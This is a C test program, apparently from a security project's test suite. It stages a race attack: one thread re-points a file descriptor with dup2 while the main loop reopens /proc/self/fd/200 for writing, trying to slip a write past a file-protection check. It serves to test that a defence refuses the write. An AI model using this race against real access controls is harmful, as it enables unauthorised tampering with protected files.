/* Attack: reopen /proc/self/fd/N for writing while another thread keeps
 * re-pointing N (dup2) between a socket (no file: no rule is about it),
 * nothing (closed) and a protected file opened read-only: a decision made
 * on what N was when it was looked at, with the kernel looking N up again
 * afterwards, writes the protected file. Built -static: only the kernel
 * path sees it. Usage: static_procfd_race PROTECTED. Prints "wrote the
 * protected file" (after up to 20000 tries) or "refused: N tries". */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "protected.h"

#define N 200
static atomic_int stop;
static int ro, sock;

static void *flip(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		dup2(sock, N);
		close(N);
		dup2(ro, N);
		dup2(sock, N);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	ro = open(argv[1], O_RDONLY);
	sock = socket(AF_UNIX, SOCK_DGRAM, 0);
	struct stat want;
	if (ro < 0 || sock < 0 || fstat(ro, &want) < 0)
		return 2;
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	int tries;
	for (tries = 0; tries < 20000; tries++) {
		if (wrote_protected("/proc/self/fd/200", &want, tries)) {
			atomic_store(&stop, 1);
			return 0;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	printf("refused: %d tries\n", tries);
	return 1;
}
